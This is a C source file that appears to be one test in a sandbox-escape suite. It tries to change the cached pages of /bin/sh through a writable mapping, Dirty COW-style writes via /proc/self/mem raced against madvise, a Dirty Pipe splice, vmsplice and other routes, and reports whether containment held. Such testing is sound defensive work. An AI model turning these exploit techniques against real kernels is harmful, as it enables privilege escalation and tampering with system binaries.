#include "attack.h"

#include <sys/uio.h>

// Pages of a read-only file, changed in memory alone: dirty cow (CVE-2016-5195), dirty pipe (CVE-2022-0847), and plain
// ways. What the file holds afterwards is asked of the file system, which answers from those pages.
static char before[4096], after[4096];

static void look(int fd, const char *how) {
    if (pread(fd, after, sizeof after, 0) < 0) unjudged("read: %s", error_name(errno));
    if (memcmp(before, after, sizeof before) != 0) escaped("the page cache of /bin/sh was changed by %s", how);
}

static void run(void) {
    int fd = open("/bin/sh", O_RDONLY);
    if (fd < 0 || pread(fd, before, sizeof before, 0) != sizeof before) unjudged("/bin/sh: %s", error_name(errno));

    void *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (shared != MAP_FAILED) escaped("/bin/sh can be mapped for writing");
    shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (shared == MAP_FAILED) unjudged("mmap: %s", error_name(errno));
    if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0) escaped("a mapping of /bin/sh was made writable");

    // A private mapping, written through /proc/self/mem while another thread of control throws it away.
    char *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int memory = open("/proc/self/mem", O_RDWR);
    for (int turn = 0; turn < 200 && memory >= 0; turn++) {
        if (pwrite(memory, "ATTACKED", 8, (off_t)(uintptr_t)private) < 0) break;
        madvise(private, 4096, MADV_DONTNEED);
    }
    look(fd, "/proc/self/mem");

    // A pipe whose buffers still carry CAN_MERGE takes a page by splice; the next write would go into that page.
    int ends[2];
    char block[4096] = {0};
    if (pipe(ends) < 0) unjudged("pipe: %s", error_name(errno));
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096) if (write(ends[1], block, 4096) < 0) break;
    for (int left = size; left > 0; left -= 4096) if (read(ends[0], block, 4096) < 0) break;
    loff_t from = 0;
    if (splice(fd, &from, ends[1], NULL, 1, 0) != 1) unjudged("splice: %s", error_name(errno));
    if (write(ends[1], "ATTACKED", 8) < 0) unjudged("write: %s", error_name(errno));
    look(fd, "splice");

    // Pages given away, and taken by a file.
    struct iovec gift = {block, sizeof block};
    if (vmsplice(ends[1], &gift, 1, 8 /* SPLICE_F_GIFT */) > 0) {
        loff_t to = 0;
        if (splice(ends[0], NULL, fd, &to, 4096, 0) > 0) escaped("splice wrote into /bin/sh");
    }
    if (copy_file_range(memory, NULL, fd, NULL, 8, 0) > 0) escaped("copy_file_range wrote into /bin/sh");
    if (fallocate(fd, 3 /* PUNCH_HOLE | KEEP_SIZE */, 0, 4096) == 0) escaped("fallocate made a hole in /bin/sh");
    look(fd, "any of it");
    contained("no way of writing changed what /bin/sh holds");
}

ATTACK(.group = "files", .what = "change the image in the page cache (dirty cow, dirty pipe)", .mode = OUTSIDE, .run = run)
